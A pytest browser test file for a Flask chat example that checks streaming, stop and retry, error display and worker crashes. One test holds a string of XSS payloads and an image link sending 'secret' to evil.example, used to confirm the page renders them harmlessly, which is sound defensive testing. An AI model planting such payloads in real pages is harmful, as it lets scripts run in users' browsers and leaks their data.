"""examples/flask_chat in a real Chromium, under real gunicorn, in front of the embedded server whose model is scripted."""

from __future__ import annotations

import os
import signal
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("gunicorn", reason="gunicorn does not run on this system")
pytest.importorskip("waitress", reason="the embedded server needs the extra: local")
pytest.importorskip("playwright")

from hfclient.local import LocalServer
from tests.chat.replay import ChatUI, wait_until
from tests.deploy.gunicorn import Gunicorn
from tests.deploy.redis_servers import expire_lease
from tests.local.upstream import CUT, ScriptedUpstream, Think
from tests.processes.helpers import ROOT, PromptedChatUI
from tests.server import json_answer
from tests.services import STARTING, RedisServer

FOLDER = ROOT / "examples" / "flask_chat"
RELAY = '{"lease": 100}'
Serve = Callable[..., Gunicorn]


@pytest.fixture
def upstream() -> Iterator[ScriptedUpstream]:
    """The model."""
    with ScriptedUpstream() as running:
        yield running


@pytest.fixture
def server(upstream: ScriptedUpstream) -> Iterator[LocalServer]:
    """The chat server."""
    with LocalServer(upstream=upstream.url) as running:
        yield running


@pytest.fixture
def serve(tmp_path: Path) -> Iterator[Serve]:
    """Start the example in front of a chat server."""
    running: list[Gunicorn] = []

    def start(url: str, kind: str = "gthread", workers: int = 1, relay: str = RELAY, app: str = "app:app", folder: Path = FOLDER) -> Gunicorn:
        site = Gunicorn(
            app, kind, tmp_path, "--chdir", str(folder), workers=workers,
            FLASK_SECRET_KEY="not a secret", FLASK_HFCLIENT_RELAY=relay, HFCLIENT_BASE_URL=url,
        )  # fmt: skip
        running.append(site.__enter__())
        return site

    yield start
    for site in running:
        site.__exit__()


class Chat:
    """The page of the chat, as its user sees it."""

    def __init__(self, page: Any, site: Gunicorn) -> None:
        self.page = page
        self.url = f"http://127.0.0.1:{site.port}/"
        self.problems: list[str] = []
        page.set_default_timeout(STARTING * 1000)
        page.on("pageerror", lambda error: self.problems.append(str(error)))
        page.on("dialog", lambda dialog: (self.problems.append(dialog.message), dialog.dismiss()))
        page.goto(self.url)

    def ask(self, prompt: str) -> None:
        self.page.fill("textarea", prompt)
        self.page.press("textarea", "Enter")

    @property
    def answer(self) -> Any:
        return self.page.locator(".message.assistant").last

    def text(self) -> str:
        """The text of the last answer."""
        return str(self.answer.locator(".body").inner_text())

    def shows(self, text: str) -> None:
        """Wait until the last answer's text is this."""
        wait_until(lambda: self.page.locator(".message.assistant").count() > 0 and self.text() == text)

    def ends(self, text: str | None = None) -> None:
        """Wait until the answer is complete."""
        wait_until(lambda: self.page.get_attribute(".chat", "data-state") == "idle")
        if text is not None:
            self.shows(text)

    def second_tab(self, site: Gunicorn) -> Chat:
        return Chat(self.page.context.new_page(), site)


def asked(upstream: ScriptedUpstream, prompt: str) -> int:
    """How often the model received a prompt."""
    return sum(request["messages"][-1]["content"] == prompt for request in upstream.requests)


@pytest.mark.parametrize("kind", ["gthread", "gevent"])
def test_a_whole_chat(kind: str, page: Any, serve: Serve, server: LocalServer, upstream: ScriptedUpstream) -> None:
    """Words are seen as they arrive; a refresh in mid-answer and a second tab continue the same answer, which was asked for once."""
    gates = [threading.Event() for _ in range(3)]
    upstream.say("Count", [Think("I count."), "one ", gates[0], "two ", gates[1], "three ", gates[2], "four"])
    site = serve(server.url, kind)
    chat = Chat(page, site)
    chat.ask("Count")
    wait_until(lambda: "one" in chat.text())
    assert page.locator(".reasoning").count() == 1
    body = ".message.assistant:last-child .body > .markdown"
    assert page.inner_text(body) == "one"
    gates[0].set()
    wait_until(lambda: page.inner_text(body) == "one two")
    page.reload()
    wait_until(lambda: page.locator(body).count() == 1 and page.inner_text(body) == "one two")
    second = chat.second_tab(site)
    wait_until(lambda: second.page.locator(body).count() == 1 and second.page.inner_text(body) == "one two")
    gates[1].set()
    for tab in (chat, second):
        wait_until(lambda tab=tab: tab.page.inner_text(body) == "one two three")
    gates[2].set()
    for tab in (chat, second):
        tab.ends()
        assert tab.page.inner_text(body) == "one two three four"
        assert tab.page.locator(".message.user").all_inner_texts() == ["Count"]
    assert asked(upstream, "Count") == 1
    upstream.say("And back", ["four"])
    second.ask("And back")
    for tab in (chat, second):  # the tabs of a browser show the same conversation
        tab.ends("four")
        assert tab.page.locator(".message.user").all_inner_texts() == ["Count", "And back"]
    page.reload()
    assert page.locator(".message").count() == 4
    assert asked(upstream, "And back") == 1
    assert chat.problems + second.problems == []
    site.check_log(int(server.url.rpartition(":")[2]))


def test_stop_and_another_answer(page: Any, serve: Serve, server: LocalServer, upstream: ScriptedUpstream) -> None:
    """Stop ends the answer at once and keeps its text; another answer replaces it, on the server as well."""
    upstream.say("Go", ["part ", threading.Event()])
    chat = Chat(page, serve(server.url))
    chat.ask("Go")
    chat.shows("part")
    page.click(".stop")
    chat.ends("part")
    assert page.inner_text(".note") == "Stopped."
    upstream.say("Go", ["whole"])
    page.click(".retry")
    chat.ends("whole")
    page.reload()
    assert page.locator(".message").all_inner_texts()[0] == "Go"
    assert page.locator(".message").count() == 2
    chat.shows("whole")
    page.click("text=New chat")
    page.wait_for_selector("text=What would you like to know?")
    assert page.locator(".message").count() == 0
    assert chat.problems == []


def test_keyboard(page: Any, serve: Serve, server: LocalServer, upstream: ScriptedUpstream) -> None:
    """The field has the focus, shift and enter make a line, enter sends, escape stops."""
    upstream.say("a\nb", ["part ", threading.Event()])
    chat = Chat(page, serve(server.url))
    page.keyboard.type("a")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("b")
    page.keyboard.press("Enter")
    chat.shows("part")
    page.keyboard.press("Escape")
    chat.ends("part")
    assert page.locator(".message.user").inner_text() == "a\nb"


HOSTILE = """<img src=x onerror="alert(1)"> <script>alert(2)</script> [a](javascript:alert(3)) ![x](https://evil.example/?q=secret)
<svg onload=alert(4)>

```html
<script>alert(5)</script>
```

[good](https://example.org/) <a href="javascript:alert(6)">x</a>"""


def test_a_hostile_answer(page: Any, serve: Serve, server: LocalServer, upstream: ScriptedUpstream) -> None:
    """HTML, scripts and addresses with other schemes are shown as text; nothing is fetched from elsewhere, now or after a refresh."""
    upstream.say("<b>Attack</b>", [HOSTILE[i : i + 3] for i in range(0, len(HOSTILE), 3)])
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.on("console", lambda message: chat.problems.append(message.text))
    chat = Chat(page, serve(server.url))
    chat.ask("<b>Attack</b>")
    chat.ends()
    for _ in range(2):
        wait_until(lambda: "</a>" not in chat.answer.inner_html() or "alert(6)" in chat.text())
        assert '<img src=x onerror="alert(1)"> <script>alert(2)</script> [a](javascript:alert(3))' in chat.text()
        assert chat.answer.locator("img, script, svg, iframe").count() == 0
        hrefs = [link.get_attribute("href") for link in chat.answer.locator("a").all()]
        assert hrefs == ["https://evil.example/?q=secret", "https://example.org/"]
        assert page.locator(".message.user").inner_text() == "<b>Attack</b>"
        page.reload()
    assert {url for url in requests if not url.startswith((chat.url, "data:"))} == set()
    assert chat.problems == []


@pytest.mark.parametrize(("status", "headers", "title", "wait"), [
    (429, ["Retry-After: 70"], "many", "You can try again in"),
    (402, [], "credits", None),
    (401, [], "logged in", None),
])  # fmt: skip
def test_refusals(page: Any, serve: Serve, status: int, headers: list[str], title: str, wait: str | None) -> None:
    """The user sees why the server refuses, when it can be tried again, and nothing internal; the button sends the prompt again."""
    with ChatUI() as ui:
        for _ in range(6):  # with the retries of the client
            ui.fault("send", json_answer({"message": f"secret internals of {ui.url}"}, status, *headers))
        chat = Chat(page, serve(ui.url))
        chat.ask("Hello?")
        page.wait_for_selector(".problem")
        chat.ends()
        shown = page.inner_text(".problem")
        assert title in shown
        assert "internals" not in page.content()
        if wait is not None:
            wait_until(lambda: wait in page.inner_text(".problem"))
            assert page.locator(".problem button").is_disabled()
        assert page.locator(".message.user").inner_text() == "Hello?"


def test_a_failure_in_mid_answer(page: Any, serve: Serve, server: LocalServer, upstream: ScriptedUpstream) -> None:
    """The text so far stays, the failure is shown, and a second attempt replaces both."""
    upstream.say("Go", ["half ", 0.2, CUT])
    chat = Chat(page, serve(server.url))
    chat.ask("Go")
    page.wait_for_selector(".problem")
    assert chat.text() == "half"
    upstream.say("Go", ["whole"])
    page.click(".problem button")
    chat.ends("whole")
    assert page.locator(".problem").count() == 0
    assert page.locator(".message").count() == 2


def test_a_killed_worker(page: Any, serve: Serve, server: LocalServer, upstream: ScriptedUpstream) -> None:
    """With a relay in memory, the death of the worker is an error that the user sees, not an endless wait."""
    upstream.say("Go", ["half ", threading.Event()])
    site = serve(server.url)
    chat = Chat(page, site)
    chat.ask("Go")
    chat.shows("half")
    os.kill(int(site.workers[-1]), signal.SIGKILL)
    page.wait_for_selector(".problem")
    chat.ends("half")
    assert page.locator(".problem button").is_enabled()


def test_a_killed_worker_with_redis(page: Any, redis_server: RedisServer, serve: Serve, server: LocalServer, upstream: ScriptedUpstream) -> None:
    """With a relay in Redis, another worker continues the answer after a SIGKILL: the same text, asked for once."""
    pytest.importorskip("redis")
    gate = threading.Event()
    upstream.say("Go", ["half ", gate, "whole"])
    site = serve(server.url, workers=2, relay=f'{{"lease": 100, "store": "{redis_server.url}"}}')
    chat = Chat(page, site)
    chat.ask("Go")
    chat.shows("half")
    for worker in site.workers:
        os.kill(int(worker), signal.SIGKILL)
    wait_until(lambda: len(site.workers) == 4)
    expire_lease(redis_server.url)
    gate.set()
    chat.ends("half whole")
    assert page.locator(".problem").count() == 0
    assert asked(upstream, "Go") == 1
    assert chat.problems == []


DIRECT = """
from flask import Flask
from hfclient.web.flask import HFClient

app = Flask(__name__)
hf = HFClient(app)
app.add_url_rule("/hfclient/<filename>", "hfclient", hf.static)

@app.get("/")
def page():
    return '''<!doctype html><script type="module" src="/hfclient/hfclient.js"></script><main class="chat" data-hfclient>
        <div class="messages"></div><form action="/ask"><textarea name="prompt"></textarea><button class="stop" type="button">Stop</button></form></main>'''

@app.post("/ask")
def ask():
    prompt = hf.prompt()
    return hf.stream_response(lambda: hf.client.chat(prompt))
"""


@pytest.mark.parametrize("how", ["close", "stop"])
def test_a_tab_that_is_closed_without_a_relay(page: Any, serve: Serve, tmp_path: Path, how: str) -> None:
    """Without a relay, closing the tab while the model is silent stops the generation on the server, and so does the button."""
    (tmp_path / "direct.py").write_text(DIRECT)
    with PromptedChatUI() as ui:
        chat = Chat(page, serve(ui.url, app="direct:app", folder=tmp_path))
        chat.ask("hold on")
        ui.wait_for_prompt("hold on")
        wait_until(lambda: "hold-on.19" in chat.text())
        if how == "close":
            page.close()
        else:
            page.click(".stop")
            chat.ends()
        wait_until(lambda: bool(ui.stops_for("hold on")))
        ui.go.set()
